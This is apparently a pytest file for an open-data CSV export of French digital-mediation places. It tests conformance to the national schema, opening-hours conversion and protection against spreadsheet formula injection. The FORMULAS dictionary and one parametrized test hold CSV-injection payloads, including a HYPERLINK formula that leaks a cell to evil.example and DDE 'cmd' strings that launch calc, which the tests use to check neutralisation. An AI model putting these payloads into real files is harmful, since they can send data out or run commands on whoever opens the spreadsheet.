"""The national standard's CSV: columns in order, values joined, hours as opening_hours, and
`frictionless validate` against the vendored schema passes."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from frictionless import Resource, Schema, validate

from conftest import SCHEMAS, VAL_ESSAI, VALID_PLACE, build, write
from helpfinder.core.openinghours import opening_hours
from helpfinder.core.spreadsheet import safe_cell
from helpfinder.opendata.export import standard_columns

STANDARD = SCHEMAS / "standard-mediation-numerique" / "schema.json"


def frictionless_errors(folder: Path, name: str) -> list[str]:
    schema = Schema.from_descriptor(json.loads(STANDARD.read_text(encoding="utf-8")))
    report = validate(Resource(path=name, basepath=str(folder), schema=schema))
    return [
        f"{e.type} {getattr(e, 'row_number', '')} {getattr(e, 'field_name', '')}: {e.note}"
        for t in report.tasks
        for e in t.errors
    ]


@pytest.mark.parametrize(
    ("hours", "expected"),
    [
        (
            {"lundi": "08:30-12:30", "mardi": "08:30-12:30", "mercredi": "08:30-12:30"},
            "Mo-We 08:30-12:30",
        ),
        ({"lundi": "09:00-12:00", "mardi": "09:00-12:00"}, "Mo,Tu 09:00-12:00"),
        (
            {"lundi": "08:30-12:30, 13:30-17:00", "mercredi": "fermé", "samedi": "09:00-12:00"},
            "Mo 08:30-12:30,13:30-17:00; Sa 09:00-12:00",
        ),
        ({"dimanche": "10:00-12:00"}, "Su 10:00-12:00"),
        ({}, ""),
        (None, ""),
    ],
)
def test_hours_become_opening_hours(hours, expected):
    assert opening_hours(hours) == expected


def test_the_places_export_passes_the_standard(site):
    folder = site / "donnees"
    assert frictionless_errors(folder, "lieux-de-mediation-numerique.csv") == []
    with (folder / "lieux-de-mediation-numerique.csv").open(encoding="utf-8", newline="") as table:
        rows = list(csv.DictReader(table))
    assert list(rows[0]) == standard_columns(STANDARD.read_text(encoding="utf-8"))
    assert len(list(rows[0])) == 32
    assert len(rows) == len(list((VAL_ESSAI / "actors").glob("*.yml")))
    france = next(r for r in rows if r["id"] == "france-services-val-essai")
    assert france["horaires"] == "Mo,Tu 08:30-12:30; We 08:30-17:00; Th,Fr 08:30-12:30"
    assert france["telephone"] == "+33400000010"
    assert france["date_maj"] == "2026-10-01"
    # The convention's dated name holds the same bytes.
    (dated,) = folder.glob("2026-11-29_*_lieux-de-mediation-numerique_*.csv")
    assert dated.read_bytes() == (folder / "lieux-de-mediation-numerique.csv").read_bytes()


def test_every_kind_of_value_passes_the_standard(project):
    """Several values per field, the standard's odd labels, two phones, no coordinates."""
    place = (
        VALID_PLACE.replace("latitude: 46.0356\nlongitude: 3.0393\n", "").replace(
            '  - "+33400000000"', '  - "+33400000000"\n  - "+33400000001"'
        )
        + "typologie: [MJC, ASSO]\n"
        + "formations_labels: [Étapes numériques(La Poste), Formé à « Mon Espace Santé »]\n"
        + "modalites_accompagnement: [Dans un atelier collectif, À distance]\n"
        + "modalites_acces: [Se présenter, Téléphoner]\n"
        + "itinerance: [Itinérant]\n"
        + "publics_specifiquement_adresses: [Familles et/ou enfants, Seniors]\n"
        + "dispositif_programmes_nationaux: [France Services, Conseillers numériques]\n"
    )
    place = place.replace("modalites_accompagnement:\n  - Accompagnement individuel\n", "")
    write(project / "data", "actors/lieu-test.yml", place)
    result = build(project)
    assert result.returncode == 0, result.stderr
    folder = project / "site" / "donnees"
    assert frictionless_errors(folder, "lieux-de-mediation-numerique.csv") == []
    with (folder / "lieux-de-mediation-numerique.csv").open(encoding="utf-8", newline="") as table:
        (row,) = list(csv.DictReader(table))
    assert row["typologie"] == "MJC|ASSO"
    assert row["formations_labels"] == "Étapes numériques(La Poste)|Formé à « Mon Espace Santé »"
    assert row["telephone"] == "+33400000000"  # the standard takes one number
    assert (row["latitude"], row["longitude"]) == ("", "")
    assert row["pivot"] == "00000000000000"


def test_data_package_describes_every_file_and_validates(site, monkeypatch):
    folder = site / "donnees"
    monkeypatch.chdir(folder)  # frictionless reads only below the working directory
    report = validate("datapackage.json")
    assert report.valid, [e.note for t in report.tasks for e in t.errors]
    package = json.loads((folder / "datapackage.json").read_text(encoding="utf-8"))
    assert package["licenses"][0]["name"] == "etalab-2.0"
    for resource in package["resources"]:
        assert (folder / resource["path"]).is_file(), resource["path"]
    places = json.loads((folder / "lieux.geojson").read_text(encoding="utf-8"))
    assert {f["properties"]["id"] for f in places["features"]} <= {
        p.stem for p in (VAL_ESSAI / "actors").glob("*.yml")
    }
    pathways = json.loads((folder / "parcours.json").read_text(encoding="utf-8"))
    assert sorted(p["id"] for p in pathways) == sorted(
        p.stem for p in (VAL_ESSAI / "pathways").glob("*.yml")
    )
    with (folder / "communes.csv").open(encoding="utf-8", newline="") as table:
        town = next(r for r in csv.DictReader(table) if r["code_insee"] == "99001")
    assert town["ifn_iris"].count(":") == 2  # Essai-le-Haut's two IRIS, each with its score


FORMULAS = {
    "nom": '=HYPERLINK("https://evil.example/?"&A1;"Cliquez")',
    "adresse": "+cmd|' /C calc'!A0",
    "complement_adresse": "-2+3+cmd|' /C calc'!A0",
    "presentation_resume": "@SUM(1+1)*cmd|' /C calc'!A0",
    "source": "-- appel du 12 novembre --",  # dashes then text: still a formula to Excel
    "structure_parente": "--",  # dashes only: harmless, kept as written
}


def test_no_cell_of_an_export_runs_as_a_formula(project):
    """OWASP: a cell starting with = + - @ gets an apostrophe; numbers (longitudes, the +33
    of phones) and cells of dashes only keep their sign, and the export still passes the
    national standard."""
    place = VALID_PLACE.replace("nom: Lieu de test", f"nom: '{FORMULAS['nom']}'")
    for field in ("adresse",):
        place = place.replace("adresse: 1 rue de l'Exemple", f'adresse: "{FORMULAS[field]}"')
    place += "".join(
        f'{field}: "{FORMULAS[field]}"\n'
        for field in ("complement_adresse", "presentation_resume", "structure_parente")
    )
    place = place.replace("source: Fiche de test", f"source: {FORMULAS['source']}")
    write(project / "data", "actors/lieu-test.yml", place)
    communes = (project / "data" / "communes.csv").read_text(encoding="utf-8")
    (project / "data" / "communes.csv").write_text(
        communes.replace(",Val-Blanc,", ',"=1+1",', 1), encoding="utf-8"
    )
    result = build(project)
    assert result.returncode == 0, result.stdout + result.stderr
    folder = project / "site" / "donnees"
    assert frictionless_errors(folder, "lieux-de-mediation-numerique.csv") == []
    with (folder / "lieux-de-mediation-numerique.csv").open(encoding="utf-8", newline="") as table:
        (row,) = list(csv.DictReader(table))
    for field, value in FORMULAS.items():
        expected = value if field == "structure_parente" else "'" + value
        assert row[field] == expected, field
    assert row["telephone"] == "+33400000000"
    for name in ("communes.csv", "couverture.csv"):
        with (folder / name).open(encoding="utf-8", newline="") as table:
            cells = [cell for line in csv.reader(table) for cell in line]
        assert "'=1+1" in cells and "=1+1" not in cells, name
        formulas = [c for c in cells if c and c[0] in "=+-@" and safe_cell(c) != c]
        assert formulas == [], name


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+33 4 74 01 02 03 ou cmd|x", "'+33 4 74 01 02 03 ou cmd|x"),
        ("@x", "'@x"),
        ("\t=1", "'\t=1"),
        ("-0.5931", "-0.5931"),  # a longitude west of Greenwich
        ("+33474010203", "+33474010203"),  # the standard's phone pattern
        ("-12", "-12"),
        ("--", "--"),
        ("- -", "- -"),
        ("Mairie - accueil", "Mairie - accueil"),
        (12, 12),
        ("", ""),
    ],
)
def test_a_cell_is_neutralised_only_when_it_would_run(value, written):
    assert safe_cell(value) == written
